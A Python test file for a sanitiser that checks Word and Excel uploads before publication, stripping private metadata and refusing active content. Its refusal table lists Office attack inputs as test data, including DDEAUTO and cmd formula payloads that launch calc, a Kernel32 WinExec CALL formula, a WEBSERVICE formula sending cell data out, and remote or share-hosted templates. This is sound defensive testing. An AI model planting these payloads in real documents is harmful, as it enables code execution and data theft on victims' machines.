"""What Word and Excel files may hold: all else is refused, or left out of what is published and listed."""

from __future__ import annotations

import io
import zipfile
from contextlib import suppress
from pathlib import Path
from random import Random

import docx
import openpyxl
import pytest
from builders import word_document
from fuzzing.packed import spoilt_package
from office_files import (
    changed,
    field,
    packed,
    parts_of,
    texts_of,
    with_part,
    with_relationship,
    with_xml,
    word_file,
    workbook,
)
from pictures import png
from running import ROOT

from generator.load.inside.office_file import Judged, judged, troubles_of_package
from generator.load.sheets.reader import read_spreadsheet
from generator.load.sheets.workbook_kind import DAMAGED

DOCX, XLSX = word_file(), workbook()
DOCUMENT, SETTINGS, SHEET = "word/document.xml", "word/settings.xml", "xl/worksheets/sheet1.xml"
EXE = b"MZ\x90\x00"
OLE = "application/vnd.openxmlformats-officedocument.oleObject"
W14 = "http://schemas.microsoft.com/office/2011/relationships"
W15 = "http://schemas.microsoft.com/office/word/2012/wordml"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
REFUSED = {
    "program": ("F20", with_part(DOCX, "word/setup.exe", EXE, "application/x-msdownload")),
    "program as picture": ("F20", with_part(DOCX, "word/media/image1.exe", EXE, "image/png")),
    "script": ("F20", with_part(DOCX, "word/run.js", b"x", "text/javascript")),
    "page": ("F20", with_part(DOCX, "word/page.html", b"<script>", "text/html")),
    "embedded file": ("F20", with_part(DOCX, "word/embeddings/oleObject1.bin", EXE, OLE)),
    "embedded workbook": ("F20", with_part(DOCX, "word/embeddings/a.xlsx", XLSX)),
    "ActiveX": ("F20", with_part(DOCX, "word/activeX/activeX1.xml", b"<a/>")),
    "ribbon": ("F20", with_part(DOCX, "customUI/customUI.xml", b"<a/>")),
    "web add-in": ("F20", with_part(DOCX, "word/webextensions/webextension1.xml", b"<a/>")),
    "another main part": ("F20", changed(
        DOCX, "[Content_Types].xml", "document.main+xml", "template.main+xml")),
    "macro type": ("F20", changed(
        DOCX, "[Content_Types].xml", "wordprocessingml.styles+xml", "vbaProject")),
    "two names in capitals": ("F20", with_part(DOCX, "word/Document.xml", b"<a/>")),
    "other document inside": ("F20", with_xml(
        with_part(DOCX, "word/afchunk.mht", b"x", "message/rfc822"), DOCUMENT, "<w:altChunk/>")),
    "altChunk outside": ("F21", with_relationship(DOCX, DOCUMENT, "aFChunk", "http://example.com/a.html")),
    "altChunk element": ("F20", with_xml(DOCX, DOCUMENT, "<w:altChunk/>")),
    "OLE element": ("F20", with_xml(DOCX, DOCUMENT, "<w:p><w:r><w:object/></w:r></w:p>")),
    "subdocument": ("F21", with_relationship(DOCX, DOCUMENT, "subDocument", "file:///c:/a.docx")),
    "remote template": ("F21", with_relationship(
        DOCX, SETTINGS, "attachedTemplate", "https://example.com/mau.dotm")),
    "template on a share": ("F21", with_relationship(
        DOCX, SETTINGS, "attachedTemplate", "file:///\\\\10.0.0.1\\mau\\mau.dotm")),
    "outside picture": ("F21", with_relationship(DOCX, DOCUMENT, "image", "http://example.com/a.png")),
    "mail merge": ("F21", with_relationship(DOCX, SETTINGS, "mailMergeSource", "file:///c:/a.mdb")),
    "frame": ("F21", with_relationship(DOCX, "word/webSettings.xml", "frame", "http://example.com/")),
    "link to a file": ("F21", with_relationship(DOCX, DOCUMENT, "hyperlink", "file:///C:/Users/A1/a.docx")),
    "link that runs": ("F21", with_relationship(DOCX, DOCUMENT, "hyperlink", "javascript:alert(1)")),
    "link to a share": ("F21", with_relationship(DOCX, DOCUMENT, "hyperlink", "\\\\10.0.0.1\\a")),
    "link within, to nothing": ("F21", with_relationship(DOCX, DOCUMENT, "image", "../../a.png", "")),
    "VML picture": ("F21", with_xml(DOCX, DOCUMENT,
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
        'src="http://example.com/a.png"/></v:shape></w:pict></w:r></w:p>')),
    "macro of a form field": ("F20", with_xml(DOCX, DOCUMENT,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="x"/></w:ffData>'
        '</w:fldChar></w:r></w:p>')),
    "DDE": ("F22", with_xml(DOCX, DOCUMENT, field('DDE excel "a.xlsx"'))),
    "DDEAUTO in pieces": ("F22", with_xml(DOCX, DOCUMENT, field("D", "DE", "AU", 'TO c:\\\\cmd "/k calc"'))),
    "picture by a field": ("F22", with_xml(DOCX, DOCUMENT, field('INCLUDEPICTURE "http://example.com/a"'))),
    "text by a field": ("F22", with_xml(DOCX, DOCUMENT, field('INCLUDETEXT "c:\\\\a.txt"'))),
    "simple field": ("F22", with_xml(DOCX, DOCUMENT, '<w:p><w:fldSimple w:instr="ddeauto x y"/></w:p>')),
    "code from a code": ("F22", with_xml(DOCX, DOCUMENT, field(
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>'))),
    "field that never ends": ("F22", with_xml(DOCX, DOCUMENT,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>LINK x</w:instrText></w:r></w:p>')),
    "author by a field": ("F22", with_xml(DOCX, DOCUMENT, field("AUTHOR"))),
    "field that links to a file": ("F21", with_xml(DOCX, DOCUMENT, field('HYPERLINK "file:///c:/a.exe"'))),
    "link behind a tip": ("F21", with_xml(DOCX, DOCUMENT, field('HYPERLINK \\o "x" "file:///c:/a.exe"'))),
    "bytes before": ("F26", b"MZ" + DOCX),
    "bytes behind": ("F26", DOCX + b"<script>alert(1)</script>"),
    "another file in between": ("F26", DOCX[: DOCX.rfind(b"PK\x05\x06")] + b"evil" * 9
        + DOCX[DOCX.rfind(b"PK\x05\x06") :]),
    "external links": ("F20", with_part(XLSX, "xl/externalLinks/externalLink1.xml", b"<a/>")),
    "connections": ("F20", with_part(XLSX, "xl/connections.xml", b"<a/>")),
    "web query": ("F20", with_part(XLSX, "xl/queryTables/queryTable1.xml", b"<a/>")),
    "pivot": ("F20", with_part(XLSX, "xl/pivotCache/pivotCacheDefinition1.xml", b"<a/>")),
    "macro sheet": ("F20", with_part(XLSX, "xl/macrosheets/sheet1.xml", b"<a/>")),
    "linked workbook": ("F21", with_relationship(XLSX, "xl/workbook.xml", "externalLinkPath", "file:///c:/a.xlsx")),
    "WEBSERVICE": ("F22", workbook('=_xlfn.WEBSERVICE("http://example.com/"&A2)')),
    "CALL": ("F22", workbook('=CALL("Kernel32","WinExec","JFF","calc")')),
    "DDE in a formula": ("F21", workbook("=cmd|' /c calc'!A1")),
    "another book": ("F21", workbook("=[1]Sheet1!A1")),
    "book at an address": ("F21", workbook("=SUM(http://example.com/a.xlsx!A1)")),
}  # fmt: skip


def _judged(content: bytes) -> Judged:
    return judged(content, ".xlsx" if b"xl/workbook.xml" in content else ".docx")


@pytest.mark.parametrize(("code", "content"), REFUSED.values(), ids=REFUSED)
def test_what_may_not_be_there_is_refused(code: str, content: bytes) -> None:
    found = _judged(content)
    assert code in {trouble.code for trouble in found.troubles}, found.troubles
    assert not found.content


@pytest.mark.parametrize(
    "name", sorted(path.name for path in (ROOT / "campaigns/_shared/forms").glob("*.docx"))
)
def test_shipped_forms_hold_nothing_else(name: str) -> None:
    content = (ROOT / "campaigns/_shared/forms" / name).read_bytes()
    found = judged(content, ".docx")
    assert (found.left_out, found.troubles) == ((), ())
    before, after = parts_of(content), parts_of(found.content)
    del before["docProps/core.xml"], after["docProps/core.xml"]
    assert before == after


@pytest.mark.parametrize(
    "code", ["PAGE", "NUMPAGES \\* MERGEFORMAT", 'DATE \\@ "dd/MM/yyyy"', "=1+2", "SEQ Bang", 'TOC \\o "1-3"',
             'HYPERLINK "https://caoloc.langson.gov.vn/a?b=1"', 'HYPERLINK \\l "_Toc1" \\o "Mục: 1"',
             'HYPERLINK "mailto:vanphong@example.gov.vn"', "FORMTEXT"],
)  # fmt: skip
def test_fields_that_compute_from_the_document_stay(code: str) -> None:
    found = judged(with_xml(DOCX, DOCUMENT, field(*code)), ".docx")
    assert not found.troubles
    assert parts_of(found.content)[DOCUMENT].count(b"instrText>") == 2 * len(code)


def test_what_word_files_of_offices_have_besides_is_left_out_and_listed() -> None:
    found = judged(_office_file(), ".docx")
    assert not found.troubles, found.troubles
    assert set(found.left_out) == {
        "tên tác giả", "tên người sửa cuối", "thuộc tính tài liệu", "thuộc tính riêng",
        "ảnh thu nhỏ", "dữ liệu XML riêng",
        "tên người soạn, người góp ý", "đoạn mẫu (glossary)", "thiết đặt máy in",
        "biến tài liệu", "dấu vết các lần soạn (rsid)", "dữ liệu riêng của chương trình khác",
        "phông chữ nhúng",
        "thiết đặt riêng của máy soạn",
    }  # fmt: skip
    published = b"\n".join(name.encode() + part for name, part in parts_of(found.content).items())
    for private in (
        b"Nguy",
        b"B\xc3\xad m\xe1\xba\xadt",
        b"rsid",
        b"docVar",
        b"<wps",
        b"font1",
    ):
        assert private not in published, private
    document = docx.Document(io.BytesIO(found.content))
    assert [each.text for each in document.paragraphs] == ["Tờ trình", "Có ghi chú"]


def _office_file() -> bytes:
    """As Word saves a file that several people have worked on, and WPS after it."""
    document = docx.Document()
    document.core_properties.author = "Nguyễn Văn A1"
    document.core_properties.last_modified_by = "Nguyễn Văn A2"
    document.core_properties.comments = "Bí mật"
    document.add_paragraph("Tờ trình")
    document.add_comment(document.add_paragraph("Có ghi chú").runs, "Góp ý", "Nguyễn Văn A3", "A3")
    saved = io.BytesIO()
    document.save(saved)
    content = with_part(saved.getvalue(), "docProps/custom.xml", "<a>Bí mật</a>".encode())
    people = f'<w:people xmlns:w="{W15}"><w:person w:author="Nguyễn Văn A3"/></w:people>'
    content = with_part(content, "word/people.xml", people.encode(), f"{WORD}people+xml")
    content = with_relationship(content, DOCUMENT, f"{W14}/people", "people.xml", "")
    content = with_part(content, "word/glossary/document.xml", "<a>Bí mật</a>".encode())
    content = with_part(content, "word/printerSettings1.bin", b"x")
    content = with_part(content, "word/fonts/font1.odttf", b"x")
    content = with_xml(content, SETTINGS, "<w:docVars><w:docVar w:name='x' w:val='Bí mật'/></w:docVars>")
    content = with_xml(content, SETTINGS, "<w:smartTagType w:name='Nguyễn'/>")
    content = changed(content, DOCUMENT, "<w:p>", '<w:p w:rsidR="00A1">')
    wps = '<wps:x xmlns:wps="http://www.wps.cn/officeDocument/2013/wpsCustomData">Nguyễn</wps:x>'
    content = changed(content, DOCUMENT, "</w:sectPr>", f"{wps}</w:sectPr>")
    insertion = '<w:ins w:id="1" w:author="Nguyễn Văn A4" w:date="2026-01-01T00:00:00Z"/>'
    content = changed(content, DOCUMENT, "</w:p>", f"{insertion}</w:p>")
    return changed(content, "docProps/app.xml", "</Properties>", "<Company>Bí mật</Company></Properties>")


def test_a_workbook_loses_notes_of_cells_people_and_printers_and_stays_a_workbook() -> None:
    book = openpyxl.Workbook()
    book.properties.creator = "Nguyễn Văn A1"
    sheet = book.worksheets[0]
    sheet["A1"] = "=SUM(B1:B2)"
    sheet["A2"].comment = openpyxl.comments.Comment("Bí mật", "Nguyễn Văn A2")
    saved = io.BytesIO()
    book.save(saved)
    content = with_part(saved.getvalue(), "xl/persons/person.xml", "<a>Nguyễn</a>".encode())
    content = with_part(content, "xl/printerSettings/printerSettings1.bin", b"Nguyen")
    found = judged(content, ".xlsx")
    assert not found.troubles
    assert {"tên tác giả", "ghi chú của ô", "tên người soạn, người góp ý", "thiết đặt máy in"} <= set(
        found.left_out
    )
    published = b"\n".join(parts_of(found.content).values())
    for private in (b"Nguy", b"B\xc3\xad m\xe1\xba\xadt", b"legacyDrawing"):
        assert private not in published
    again = openpyxl.load_workbook(io.BytesIO(found.content))
    assert again.worksheets[0]["A1"].value == "=SUM(B1:B2)"
    assert again.worksheets[0]["A2"].comment is None


def test_pictures_in_a_file_lose_their_notes_and_have_to_be_pictures() -> None:
    document = word_document()
    document.add_picture(io.BytesIO(png(author="Nguyen Van A1")))
    saved = io.BytesIO()
    document.save(saved)
    found = judged(saved.getvalue(), ".docx")
    assert "chữ ghi kèm trong tệp hình" in found.left_out
    assert parts_of(found.content)["word/media/image1.png"] == png()
    spoilt = packed({**parts_of(saved.getvalue()), "word/media/image1.png": b"MZ"})
    assert judged(spoilt, ".docx").troubles


@pytest.mark.parametrize(
    ("part", "extra", "gone"),
    [
        ("<?xml-stylesheet href='http://example.com/a.css'?><w:document", "<w:document", "stylesheet"),
        ("<w:fldData>QUJD</w:fldData>", "", "QUJD"),
        ('<a:hlinkClick xmlns:a="{}" action="ppaction://program?file=x"/>', "", "ppaction"),
    ],
)
def test_instructions_and_data_of_programs_are_left_out(part: str, extra: str, gone: str) -> None:
    part = part.format("http://schemas.openxmlformats.org/drawingml/2006/main")
    if extra:
        content = changed(DOCX, DOCUMENT, extra, part)
    else:
        content = with_xml(DOCX, DOCUMENT, f"<w:p><w:r>{part}</w:r></w:p>")
    found = _judged(content)
    assert not found.troubles
    assert gone.encode() not in zipfile.ZipFile(io.BytesIO(found.content)).read(DOCUMENT)


def test_the_published_file_is_packed_anew_and_the_same_each_time() -> None:
    found = judged(DOCX, ".docx")
    assert found.content == judged(packed(parts_of(DOCX)), ".docx").content
    assert judged(found.content, ".docx").left_out == ()


@pytest.mark.parametrize(
    "content",
    [
        changed(DOCX, DOCUMENT, "<w:body>", "<!DOCTYPE a [<!ENTITY a 'b'>]><w:body>"),
        changed(DOCX, DOCUMENT, "<w:body>", "<w:body>" + "<w:a>" * 5_000),
        changed(DOCX, DOCUMENT, "encoding='UTF-8'", "encoding='UTF-16'"),
        with_part(packed({"a": b""}), "[Content_Types].xml", b""),
    ],
    ids=["DTD", "deep", "encoding", "nothing"],
)
def test_what_is_no_office_file_is_told_as_damaged_or_refused(content: bytes) -> None:
    try:
        found = judged(content, ".docx")
    except DAMAGED:
        return
    assert found.troubles


def test_a_file_of_many_parts_or_much_text_is_refused_before_it_is_read() -> None:
    many = packed({**parts_of(DOCX), **{f"word/media/{n}.png": b"" for n in range(600)}})
    assert judged(many, ".docx").troubles
    assert judged(with_part(DOCX, "word/header9.xml", b" " * 21_000_000), ".docx").troubles


def test_a_list_is_judged_by_its_parts_and_relationships() -> None:
    assert not troubles_of_package(workbook('=WEBSERVICE("x")'), ".xlsx")  # its value is read, nothing else
    assert troubles_of_package(REFUSED["external links"][1], ".xlsx")


def test_a_list_with_more_than_a_list_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "qd-1.xlsx"
    path.write_bytes(REFUSED["external links"][1])
    sheets, told = read_spreadsheet(path, "honours/qd-1.xlsx")
    assert sheets is None
    assert [each.code for each in told] == ["F20"]


@pytest.mark.parametrize("seed", range(60))
def test_a_spoilt_file_never_ends_in_a_traceback(seed: int) -> None:
    content, ending = (DOCX, ".docx") if seed % 2 else (XLSX, ".xlsx")
    spoilt = spoilt_package(content, Random(seed))  # noqa: S311 - nothing here is secret
    with suppress(*DAMAGED):
        found = judged(spoilt, ending)
        assert bool(found.content) is not bool(found.troubles)


@pytest.mark.parametrize(
    "path",
    ["C:\\Users\\nguyenvana\\Desktop\\logo.png", "/home/nguyenvana/logo.png", "\\\\may02\\chung\\logo.png"],
)
def test_of_a_picture_that_was_put_in_no_path_goes_out(path: str) -> None:
    drawing = (
        '<w:p><w:r><w:drawing><wp:docPr xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        f'wordprocessingDrawing" id="1" name="{path}" descr="{path}"/></w:drawing></w:r></w:p><w:sectPr'
    )
    found = judged(changed(word_file("Tờ trình"), "word/document.xml", "<w:sectPr", drawing), ".docx")
    assert not found.troubles
    assert "đường dẫn trên máy soạn" in found.left_out
    published = texts_of(found.content)["word/document.xml"]
    assert 'descr="logo.png"' in published
    assert "nguyenvana" not in published
    assert "may02" not in published
